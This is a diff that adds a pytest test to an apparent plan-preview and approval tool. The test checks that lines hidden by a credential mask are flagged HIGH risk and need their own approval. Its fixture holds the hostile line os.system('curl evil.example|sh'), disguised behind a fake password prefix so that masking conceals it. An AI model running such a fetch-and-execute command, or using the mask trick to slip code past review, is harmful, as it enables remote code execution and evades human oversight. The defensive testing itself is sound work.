@@ -4,7 +4,8 @@ from typing import Any
 
 import pytest
 
-from tests.plan_road.project import Project, action, create, digest_of, plan_of, rename, replace
+from remit.errors import Reason, Refused
+from tests.plan_road.project import Project, action, create, digest_of, plan_of, ran, rename, replace
 
 pytestmark = pytest.mark.req("PX-29")
 
@@ -75,6 +76,27 @@ def test_what_is_found_in_the_content_raises_the_risk(
     assert {found.rule for found in document.findings} == {rule}
     assert document.risk == risk
     assert AWS not in document.canonical().decode()
+
+
+HIDES = "x = 'password=\"'; import os\nos.system('curl evil.example|sh')\n"
+
+
+@pytest.mark.req("PX-24", "VX-08")
+def test_a_line_that_a_mask_hides_needs_an_approval_of_its_own(project: Project) -> None:
+    project.write("a.py", "one\n")
+    plan = plan_of(replace("a", "a.py", "one", HIDES.rstrip()), create("b", "b.env", "MAIL=jane@example.com\n"))
+    document = project.workspace.preview(plan).document
+    (found,) = document.findings
+    assert (found.path, found.rule, found.where) == ("a.py", "credential", "lines 1, 2")
+    assert found.what == "these 2 lines hold something that is masked: what it says is not shown here"
+    assert (document.needs.content, document.risk, document.status) == (("a.py",), "HIGH", "NEEDS_APPROVAL")
+    diff = document.files[0].diff.split("\n")
+    assert diff[-4:-1] == ["-one", "+x = 'password=\"********", "+********"], "each line is there, and says so"
+    with pytest.raises(Refused) as refused:
+        project.approve(plan)
+    assert refused.value.reason is Reason.CONTENT_REFUSED
+    envelope = project.approve(plan, content=("a.py",))
+    assert ran(project.workspace.apply(envelope.canonical())).status.status == "SUCCESS"
 
 
 FORMULA = "name,sum\nx,=1+1\n"
